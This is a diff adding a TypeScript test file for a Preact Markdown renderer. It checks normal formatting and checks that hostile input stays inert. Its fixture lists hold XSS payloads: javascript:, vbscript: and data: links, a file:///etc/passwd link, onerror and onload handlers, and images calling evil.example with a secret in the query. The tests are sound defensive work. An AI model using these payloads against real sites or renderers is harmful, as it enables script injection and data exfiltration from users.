@@ -1,0 +1,101 @@
+// Markdown to nodes: what is shown, and what hostile text can't do.
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { h } from "preact";
+import { renderToString } from "preact-render-to-string";
+import { Markdown } from "./markdown.tsx";
+
+const html = (text: string, settled = true) =>
+  renderToString(h(Markdown, { text, settled })).replace(/^<div class="prose" dir="auto">|<\/div>$/g, "");
+
+test("Markdown shows paragraphs, emphasis, code and line breaks", () => {
+  assert.equal(
+    html("Hello **you** and *me*, ~~not~~ `a < b`.  \nNext"),
+    "<p>Hello <strong>you</strong> and <em>me</em>, <del>not</del> <code>a &lt; b</code>.<br/>Next</p>",
+  );
+});
+
+test("Markdown shows lists, also nested, loose and numbered from elsewhere", () => {
+  assert.equal(html("- a\n  - b\n- c"), "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>");
+  assert.equal(html("3. a\n4. b"), '<ol start="3"><li>a</li><li>b</li></ol>');
+  assert.match(html("- [x] done\n- [ ] open"), /type="checkbox" checked disabled.*type="checkbox" disabled/);
+});
+
+test("Markdown shows tables in a region that scrolls", () => {
+  const table = html("| a | b |\n|---|--:|\n| 1 | 2 |");
+  assert.match(table, /<section class="prose-table" tabindex="0" aria-label="Table"><table>/i);
+  assert.match(table, /<th scope="col" class="align-right">b<\/th>/);
+  assert.match(table, /<td class="align-right">2<\/td>/);
+});
+
+test("Markdown shows code blocks as text with a copy button", () => {
+  const block = html("```js\nif (a < b) { '</code>' }\n```");
+  assert.match(block, /<span>js<\/span>/);
+  assert.match(block, /if \(a &lt; b\) \{ '&lt;\/code>' \}/);
+  assert.match(block, /aria-label="Copy code"/);
+});
+
+test("Markdown opens links elsewhere without telling where from", () => {
+  const link = html("[site](https://example.org/a?b=c) and me@example.org");
+  assert.match(link, /<a href="https:\/\/example.org\/a\?b=c" target="_blank" rel="noopener noreferrer">site<\/a>/);
+  assert.match(link, /<a href="mailto:me@example.org"/);
+});
+
+test("Markdown decodes entities into text", () => {
+  assert.equal(html("R&amp;D &lt;b&gt; &#8364; &unknown;"), "<p>R&amp;D &lt;b> € &amp;unknown;</p>");
+});
+
+const HOSTILE_LINKS = [
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](<java\tscript:alert(1)>)",
+  "[x](<java&#10;script:alert(1)>)",
+  "[x](data:text/html;base64,PHNjcmlwdD4=)",
+  "[x](vbscript:msgbox(1))",
+  "[x](file:///etc/passwd)",
+  "[x](blob:https://example.org/1)",
+  "[x](/api/auth/sign-out)",
+  "[x](//evil.example)",
+  "<javascript:alert(1)>",
+  "[x][1]\n\n[1]: javascript:alert(1)",
+];
+for (const text of HOSTILE_LINKS) {
+  test(`Markdown makes no link of ${JSON.stringify(text)}`, () => {
+    assert.doesNotMatch(html(text), /<a[\s>]/);
+    assert.doesNotMatch(html(text, false), /<a[\s>]/);
+  });
+}
+
+const HOSTILE_HTML = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "hello <img src='https://evil.example/leak?q=secret'> there",
+  "<iframe src='https://evil.example'></iframe>",
+  "<style>body{display:none}</style>",
+  "<a href='javascript:alert(1)'>x</a>",
+  "<div><p onclick=alert(1)>x</p></div>",
+  "- <svg/onload=alert(1)>",
+  "| <img src=x> |\n|---|\n| <b>x</b> |",
+  "<!-- comment --><object data=x></object>",
+];
+for (const text of HOSTILE_HTML) {
+  test(`Markdown shows ${JSON.stringify(text)} as text`, () => {
+    for (const shown of [html(text), html(text, false)]) {
+      assert.doesNotMatch(shown, /<(script|img|iframe|style|svg|object|b|a)[\s>/]/);
+      assert.match(shown, /&lt;/);
+    }
+  });
+}
+
+test("Markdown never loads a picture: it names it and links to it", () => {
+  const shown = html("![my secret](https://evil.example/p.png?d=secret)");
+  assert.doesNotMatch(shown, /<img|src=/);
+  assert.match(shown, /<a href="https:\/\/evil.example\/p.png\?d=secret"[^>]*>my secret \(https:\/\/evil.example/);
+  assert.doesNotMatch(html("![x](data:image/svg+xml,<svg/onload=alert(1)>)"), /<(img|a|svg)[\s>/]/);
+});
+
+test("Markdown survives deep nesting and odd text", () => {
+  assert.ok(html(`${"> ".repeat(300)}deep`).includes("deep"));
+  assert.ok(html(`${"[".repeat(2_000)}`).includes("["));
+  assert.equal(html(""), "");
+});
